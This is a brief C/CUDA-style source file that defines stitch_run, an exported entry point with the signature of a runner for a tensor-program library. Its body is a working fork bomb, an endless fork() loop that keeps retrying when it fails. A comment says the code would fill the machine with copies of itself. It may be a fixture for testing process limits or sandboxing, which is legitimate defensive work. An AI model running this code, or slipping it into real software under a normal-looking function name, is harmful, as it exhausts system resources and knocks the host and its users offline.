// Were it let, it would fill the machine with copies of itself.
#include <unistd.h>
#define OWN_RUN
#include "program.cuh"

extern "C" int stitch_run(StitchProgram*, const StitchTensor*, int, StitchTensor*, int, void*) {
  for (;;)
    if (fork() < 0) usleep(1000);
}
